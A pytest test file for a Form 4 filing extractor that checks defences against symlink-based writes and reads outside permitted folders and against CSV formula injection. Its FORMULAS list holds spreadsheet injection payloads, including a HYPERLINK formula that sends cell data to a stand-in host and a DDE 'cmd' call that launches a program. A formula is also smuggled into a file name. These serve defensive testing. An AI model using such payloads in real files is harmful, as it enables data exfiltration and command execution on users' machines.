"""Hostile inputs and outputs: each attack is built here as a small file or a plain command line.

Nothing is written outside ``--output``, CSV cells never run in a spreadsheet, links are not
followed out of the folders the user named, every bad file is one line and never a traceback.
"""

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from form4.errors import OutputError
from form4.io.tabular import to_csv
from form4.run.batch import collect_inputs, read_input, write_atomic
from form4.schema import Issuer, NonDerivativeTransaction, Record, ReportingOwner

from conftest import ROOT  # noqa: E402  (the repository, defined once)

SEED = ROOT / "samples" / "000_46eb1dd4f8015172.txt"


def form4(*args, cwd: Path | None = None, env: dict | None = None):
    return subprocess.run(
        [sys.executable, "-m", "extractor", *map(str, args)],
        capture_output=True,
        cwd=cwd or ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})},
    )


def _lines(out) -> list[str]:
    return out.stderr.decode("utf-8", "replace").strip().splitlines()


def _files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


# ---------------------------------------------------------------- confined writes
def test_a_planted_symlink_at_the_temporary_name_is_not_followed(tmp_path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    (out / f".a.json.{os.getpid()}.tmp").symlink_to(outside / "stolen.json")
    write_atomic(out / "a.json", '{"a": 1}\n')
    assert _files(outside) == []
    assert not (out / "a.json").is_symlink() and json.loads((out / "a.json").read_text()) == {"a": 1}


def test_a_symlink_at_the_output_name_is_refused_as_an_output_error(tmp_path):
    (tmp_path / "out").mkdir()
    target = tmp_path / "elsewhere.json"
    target.write_text("keep")
    (tmp_path / "out" / "a.json").symlink_to(target)
    with pytest.raises(OutputError, match="symbolic link"):
        write_atomic(tmp_path / "out" / "a.json", "{}\n")
    assert target.read_text() == "keep" and (tmp_path / "out" / "a.json").is_symlink()


def test_a_symlinked_subfolder_of_the_output_folder_receives_nothing(tmp_path):
    (tmp_path / "in" / "sub").mkdir(parents=True)
    (tmp_path / "in" / "top.txt").write_text(SEED.read_text())
    (tmp_path / "in" / "sub" / "inner.txt").write_text(SEED.read_text())
    (tmp_path / "out").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "out" / "sub").symlink_to(tmp_path / "elsewhere")
    out = form4("extract", "--no-model", tmp_path / "in", "-o", f"{tmp_path / 'out'}/")
    lines = _lines(out)
    assert out.returncode == 1 and _files(tmp_path / "elsewhere") == []
    assert [line for line in lines if "E023" in line and "inner" in line and "symbolic link" in line]
    assert (tmp_path / "out" / "top.json").is_file() and "1 done, 1 failed (E023: 1), 0 skipped" in lines[-1]


def test_the_summary_file_is_not_written_through_a_symlink(tmp_path):
    (tmp_path / "secret").write_text("keep")
    (tmp_path / "summary.json").symlink_to(tmp_path / "secret")
    out = form4("extract", "--no-model", SEED, "--summary", tmp_path / "summary.json")
    assert (tmp_path / "secret").read_text() == "keep"
    assert out.returncode == 2 and any("E023" in line for line in _lines(out)) and "Traceback" not in out.stderr.decode()


# ---------------------------------------------------------------- input links
def _linked_inputs(tmp_path: Path) -> Path:
    (tmp_path / "in").mkdir()
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret.txt").write_text(SEED.read_text())
    (tmp_path / "in" / "real.txt").write_text(SEED.read_text())
    (tmp_path / "in" / "alias.txt").symlink_to(tmp_path / "in" / "real.txt")
    (tmp_path / "in" / "leak.txt").symlink_to(tmp_path / "private" / "secret.txt")
    return tmp_path / "in"


def test_an_input_link_that_leads_out_of_the_input_folder_is_refused(tmp_path):
    folder = _linked_inputs(tmp_path)
    items = {item.relative.name: item for item in collect_inputs([str(folder)])}
    assert read_input(items["alias.txt"]).text.startswith(SEED.read_text()[:50])
    from form4.errors import Form4Error

    with pytest.raises(Form4Error) as caught:
        read_input(items["leak.txt"])
    assert caught.value.code == "E026" and "--follow-links" in caught.value.one_line()


def test_follow_links_reads_links_out_of_the_input_folder(tmp_path):
    folder = _linked_inputs(tmp_path)
    refused = form4("extract", "--no-model", folder, "-o", f"{tmp_path / 'a'}/")
    followed = form4("extract", "--no-model", "--follow-links", folder, "-o", f"{tmp_path / 'b'}/")
    assert refused.returncode == 1 and "2 done, 1 failed (E026: 1)" in _lines(refused)[-1]
    assert followed.returncode == 0 and _files(tmp_path / "b") == ["alias.json", "leak.json", "real.json"]


# ---------------------------------------------------------------- spreadsheet-safe CSV
FORMULAS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")


def _formula_record() -> Record:
    return Record(
        source=FORMULAS[3] + ".txt",
        issuer=Issuer(name=FORMULAS[0], trading_symbol="ACME"),
        reporting_owners=(ReportingOwner(name=FORMULAS[1], officer_title=FORMULAS[4], other_text=FORMULAS[5]),),
        non_derivative_transactions=(NonDerivativeTransaction(security_title=FORMULAS[2], nature_of_ownership=FORMULAS[6], shares=5.0),),
    )


def test_csv_text_cells_a_spreadsheet_would_run_get_a_leading_quote():
    import pandas as pd

    frame = pd.read_csv(io.StringIO(to_csv([_formula_record()])), dtype=str, keep_default_na=False)
    row = frame.iloc[0]
    cells = [row[c] for c in ("issuer_name", "reporting_owners", "security_title", "source", "owner_officer_title", "owner_other_text", "nature_of_ownership")]
    assert all(cell.startswith("'") for cell in cells)
    assert row["issuer_name"] == "'" + FORMULAS[0] and row["issuer_trading_symbol"] == "ACME" and row["shares"] == "5"


def test_csv_raw_keeps_the_cells_as_read():
    import pandas as pd

    frame = pd.read_csv(io.StringIO(to_csv([_formula_record()], raw=True)), dtype=str, keep_default_na=False)
    assert frame.iloc[0]["issuer_name"] == FORMULAS[0] and frame.iloc[0]["security_title"] == FORMULAS[2]


def test_a_file_name_that_is_a_formula_is_quoted_in_the_csv_unless_csv_raw(tmp_path):
    (tmp_path / "=HYPERLINK(1).txt").write_text(SEED.read_text())
    safe = form4("extract", "--no-model", "=HYPERLINK(1).txt", "--format", "csv", cwd=tmp_path)
    raw = form4("extract", "--no-model", "=HYPERLINK(1).txt", "--format", "csv", "--csv-raw", cwd=tmp_path)
    assert safe.returncode == 0 and raw.returncode == 0, safe.stderr
    assert safe.stdout.decode().splitlines()[1].startswith("'=HYPERLINK(1).txt")
    assert raw.stdout.decode().splitlines()[1].startswith("=HYPERLINK(1).txt")
